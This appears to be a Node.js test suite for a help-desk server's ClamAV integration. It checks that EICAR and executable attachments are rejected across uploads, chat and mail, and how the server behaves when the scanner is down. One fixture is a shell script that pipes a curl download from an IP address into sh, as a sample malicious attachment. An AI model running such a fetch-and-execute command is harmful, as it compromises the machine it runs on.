// Virus scanning through a REAL clamd (clamav-daemon) started here with a throwaway config
// and its own signature database (no download): the EICAR test file is refused on ticket
// uploads, chat files and mail attachments; clean files are kept; clamd down → 503 unless
// clamd_fail_open. The EICAR string is assembled from pieces so the repository never holds it.
import { test, before, after } from 'node:test';
import assert from 'node:assert/strict';
import { spawn, spawnSync, execFileSync } from 'node:child_process';
import { mkdtempSync, writeFileSync, existsSync, readdirSync, rmSync } from 'node:fs';
import { createHash } from 'node:crypto';
import net from 'node:net';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { startServer, Client, cli, BIN } from '../lib/server.mjs';

const EICAR = Buffer.from(['X5O!P%@AP[4\\PZX54(P^)7CC)7}$', 'EICAR-STANDARD-', 'ANTIVIRUS-TEST-', 'FILE!$H+H*'].join(''));
const CLEAN = Buffer.from('My deposit of 0.5 BTC has not arrived; txid in the screenshot.\n');
const sha256 = (b) => createHash('sha256').update(b).digest('hex');

let dir, clamd, sock, tcpPort, srv, cust, agent, admin, token, ref;

function findClamd() {
  for (const p of ['/usr/sbin/clamd', '/usr/bin/clamd']) if (existsSync(p)) return p;
  return 'clamd';
}
async function freePort() {
  return new Promise((resolve) => {
    const s = net.createServer().listen(0, '127.0.0.1', () => { const p = s.address().port; s.close(() => resolve(p)); });
  });
}
async function waitFor(fn, ms, what) {
  const end = Date.now() + ms;
  while (Date.now() < end) { if (await fn()) return; await new Promise((r) => setTimeout(r, 50)); }
  throw new Error('timed out waiting for ' + what);
}
function ping(path) {
  return new Promise((resolve) => {
    const c = net.createConnection(path, () => c.write('zPING\0'));
    let got = '';
    c.on('data', (d) => { got += d; if (got.includes('PONG')) { c.destroy(); resolve(true); } });
    c.on('error', () => resolve(false));
    c.setTimeout(1000, () => { c.destroy(); resolve(false); });
  });
}
async function startClamd() {
  tcpPort = await freePort();
  const conf = join(dir, 'clamd.conf');
  writeFileSync(conf, [
    'Foreground yes', `DatabaseDirectory ${join(dir, 'db')}`, `LocalSocket ${sock}`,
    `TCPSocket ${tcpPort}`, 'TCPAddr 127.0.0.1', `LogFile ${join(dir, 'clamd.log')}`, `PidFile ${join(dir, 'clamd.pid')}`, '',
  ].join('\n'));
  clamd = spawn(findClamd(), ['-c', conf], { stdio: 'ignore' });
  await waitFor(() => ping(sock), 30000, 'clamd');
}
function stopClamd() {
  return new Promise((resolve) => {
    if (!clamd || clamd.exitCode !== null) { resolve(); return; }
    clamd.on('exit', () => resolve());
    clamd.kill('SIGTERM');
  });
}

function isErr(r, status, code) {
  assert.equal(r.status, status, `want ${status}, got ${r.status}: ${r.text}`);
  assert.ok(r.json && r.json.error, `JSON error body expected, got: ${r.text}`);
  if (code) assert.equal(r.json.error.code, code, r.text);
  assert.ok(r.json.error.message.length > 10, 'a message that says what happened');
}
const upload = (c, r, bytes, filename) => c.req('POST', `/api/v1/tickets/${r}/attachments?filename=${filename}`,
  new Uint8Array(bytes), { 'content-type': 'text/plain' });
/** Whether any stored attachment file has these bytes. */
const stored = (s, bytes) => existsSync(join(s.dataDir, 'attachments', sha256(bytes).slice(0, 2), sha256(bytes)));

function mailWith(from, subject, files) {
  const b = 'b-' + Math.random().toString(16).slice(2);
  const parts = [`From: ${from}`, 'To: deposits@frontdesk.test', `Subject: ${subject}`,
    `Message-ID: <${Math.random().toString(16).slice(2)}@customer.test>`, 'MIME-Version: 1.0',
    `Content-Type: multipart/mixed; boundary="${b}"`, '', `--${b}`, 'Content-Type: text/plain; charset=utf-8', '',
    'Please see the attached files.', ''];
  for (const [name, bytes] of files)
    parts.push(`--${b}`, `Content-Type: text/plain; name="${name}"`, `Content-Disposition: attachment; filename="${name}"`,
      'Content-Transfer-Encoding: base64', '', bytes.toString('base64'), '');
  parts.push(`--${b}--`, '');
  return parts.join('\r\n');
}
async function inbound(s, tok, raw) {
  const res = await fetch(s.url + '/api/v1/mail/inbound', { method: 'POST', body: Buffer.from(raw),
    headers: { authorization: 'Bearer ' + tok, 'content-type': 'message/rfc822' } });
  const text = await res.text();
  let json = null; try { json = JSON.parse(text); } catch { /* */ }
  return { status: res.status, text, json };
}

before(async () => {
  dir = mkdtempSync(join(tmpdir(), 'fd-clamd-'));
  sock = join(dir, 'clamd.sock');
  execFileSync('mkdir', ['-p', join(dir, 'db')]);
  // ClamAV's hash signature format (.hdb): MD5:size:name.
  const md5 = createHash('md5').update(EICAR).digest('hex');
  writeFileSync(join(dir, 'db', 'frontdesk-test.hdb'), `${md5}:${EICAR.length}:Eicar-Test-Signature\n`);
  await startClamd();
  srv = await startServer({ env: { FRONTDESK_CLAMD_SOCKET: sock } });
  const a = srv.addUser({ email: 'admin@fd-clamd.test', role: 'admin' });
  const g = srv.addUser({ email: 'dora@fd-clamd.test', role: 'agent', department: 'deposits' });
  admin = new Client(srv.url); await admin.login(a.email, a.password);
  agent = new Client(srv.url); await agent.login(g.email, g.password);
  cust = new Client(srv.url); await cust.signup('cust@fd-clamd.test', 'customer-pass-123');
  ref = (await cust.post('/api/v1/tickets', { subject: 'deposit missing', body: 'see file', department: 'deposits' })).json.ticket.reference;
  token = cli(['token', 'create', '--email', a.email, '--name', 'mailgate', '--scopes', 'mail:ingest', '--data-dir', srv.dataDir]).trim();
});
after(async () => {
  await srv?.stop();
  await stopClamd();
  if (dir) rmSync(dir, { recursive: true, force: true });
});

test('ticket upload: EICAR → 422 infected naming the signature, nothing stored; a clean file → 201', async () => {
  const bad = await upload(cust, ref, EICAR, 'eicar.txt');
  isErr(bad, 422, 'infected');
  assert.match(bad.json.error.message, /Eicar-Test-Signature/);
  assert.equal(stored(srv, EICAR), false, 'the infected file was not written');
  const ok = await upload(cust, ref, CLEAN, 'txid.txt');
  assert.equal(ok.status, 201, ok.text);
  assert.equal(stored(srv, CLEAN), true);
  // agents are scanned too
  isErr(await upload(agent, ref, EICAR, 'eicar.txt'), 422, 'infected');
});

test('chat file: EICAR → 422 and no chat message; a clean file → 201', async () => {
  const on = await agent.req('PUT', '/api/v1/agent/status', { status: 'online', capacity: 3 });
  assert.equal(on.status, 200, on.text);
  const c = new Client(srv.url); await c.signup('chatter@fd-clamd.test', 'customer-pass-123');
  const st = await c.post('/api/v1/chat', { department: 'deposits', message: 'hello' });
  assert.equal(st.status, 201, st.text);
  const id = st.json.chat.id;
  const up = (bytes) => c.req('POST', `/api/v1/chat/${id}/attachments?filename=f.txt`, new Uint8Array(bytes), { 'content-type': 'text/plain' });
  const bad = await up(EICAR);
  isErr(bad, 422, 'infected');
  const g = await c.get(`/api/v1/chat/${id}`);
  assert.equal(g.json.messages.filter((m) => m.attachment).length, 0, 'no file message was posted');
  const ok = await up(CLEAN);
  assert.equal(ok.status, 201, ok.text);
  const g2 = await c.get(`/api/v1/chat/${id}`);
  assert.equal(g2.json.messages.filter((m) => m.attachment).length, 1);
});

test('mail: the infected attachment is not kept, an internal note names it; the clean one is kept', async () => {
  const r = await inbound(srv, token, mailWith('mallory@customer.test', 'see attachments', [['clean.txt', CLEAN], ['invoice.txt', EICAR]]));
  assert.equal(r.status, 201, r.text);
  const t = (await admin.get('/api/v1/tickets/' + r.json.ticket)).json;
  const files = t.messages.flatMap((m) => m.attachments.map((x) => x.filename));
  assert.deepEqual(files, ['clean.txt']);
  const note = t.messages.find((m) => m.internal && /virus scanner/.test(m.body));
  assert.ok(note, 'an internal note for the agents');
  assert.match(note.body, /invoice\.txt/);
  assert.match(note.body, /Eicar-Test-Signature/);
  assert.equal(stored(srv, EICAR), false);
});

test('mail: executables (ELF, PE, shell script) are never kept, whatever their name; an internal note says why', async () => {
  const elf = Buffer.from('7f454c4602010100000000000000000002003e00010000000000000000000000', 'hex');
  const pe = Buffer.concat([Buffer.from('MZ\x90\x00\x03\x00\x00\x00', 'latin1'), Buffer.alloc(200)]);
  const sh = Buffer.from('#!/bin/sh\ncurl http://198.51.100.1/x | sh\n');
  const c = new Client(srv.url); await c.signup('eve@customer.test', 'customer-pass-123');
  const r = await inbound(srv, token, mailWith('eve@customer.test', 'my statement', [
    ['statement.pdf', elf], ['invoice.doc', pe], ['fix.txt', sh], ['notes.txt', CLEAN]]));
  assert.equal(r.status, 201, r.text);
  const t = (await admin.get('/api/v1/tickets/' + r.json.ticket)).json;
  assert.deepEqual(t.messages.flatMap((m) => m.attachments.map((x) => x.filename)), ['notes.txt']);
  const note = t.messages.find((m) => m.internal && /not kept/.test(m.body));
  assert.ok(note, 'an internal note for the agents');
  assert.match(note.body, /"statement\.pdf": it is an executable program \(application\/x-executable\)/);
  assert.match(note.body, /"invoice\.doc": it is an executable program \(application\/x-dosexec\)/);
  assert.match(note.body, /"fix\.txt": it is an executable program \(text\/x-shellscript\)/);
  for (const b of [elf, pe, sh]) assert.equal(stored(srv, b), false);
  // the customer's own view of the ticket shows neither the note nor the files
  const mine = await c.get('/api/v1/tickets/' + r.json.ticket);
  assert.equal(mine.status, 200, mine.text);
  assert.equal(mine.json.messages.filter((m) => /not kept/.test(m.body)).length, 0);
});

test('TCP socket (host:port) works the same way', async () => {
  const s2 = await startServer({ env: { FRONTDESK_CLAMD_SOCKET: `127.0.0.1:${tcpPort}` } });
  try {
    const c = new Client(s2.url); await c.signup('tcp@fd-clamd.test', 'customer-pass-123');
    const r2 = (await c.post('/api/v1/tickets', { subject: 'x', body: 'y', department: 'deposits' })).json.ticket.reference;
    isErr(await upload(c, r2, EICAR, 'e.txt'), 422, 'infected');
    assert.equal((await upload(c, r2, CLEAN, 'c.txt')).status, 201);
  } finally { await s2.stop(); }
});

test('a bad clamd_socket value stops the server at start-up', async () => {
  await assert.rejects(startServer({ dataDir: mkdtempSync(join(dir, 'bad-')), env: { FRONTDESK_CLAMD_SOCKET: 'localhost:notaport' } }), /clamd_socket/);
});

test('clamd down: uploads → 503 scanner_unavailable and nothing stored; mail → 503 (the MTA retries); fail-open keeps files', async () => {
  await stopClamd();
  const other = Buffer.from('another clean file, uploaded while clamd is down\n');
  const r = await upload(cust, ref, other, 'down.txt');
  isErr(r, 503, 'scanner_unavailable');
  assert.equal(stored(srv, other), false);
  const m = await inbound(srv, token, mailWith('bob@customer.test', 'while down', [['a.txt', other]]));
  assert.equal(m.status, 503, m.text);
  // through the mailgate: EX_TEMPFAIL (75), so the MTA keeps the message and retries
  const g = spawnSync(BIN, ['mailgate', '--url', srv.url, '--address', 'deposits@frontdesk.test'], {
    input: mailWith('bob@customer.test', 'while down 2', [['a.txt', other]]),
    env: { ...process.env, FRONTDESK_MAILGATE_TOKEN: token }, encoding: 'utf8', timeout: 30000 });
  assert.equal(g.status, 75, g.stderr);
  const open = await startServer({ env: { FRONTDESK_CLAMD_SOCKET: sock, FRONTDESK_CLAMD_FAIL_OPEN: '1' } });
  try {
    const c = new Client(open.url); await c.signup('open@fd-clamd.test', 'customer-pass-123');
    const r2 = (await c.post('/api/v1/tickets', { subject: 'x', body: 'y', department: 'deposits' })).json.ticket.reference;
    const up = await upload(c, r2, other, 'down.txt');
    assert.equal(up.status, 201, up.text);
    assert.match(open.stderr(), /scan_skipped/);
  } finally { await open.stop(); }
});
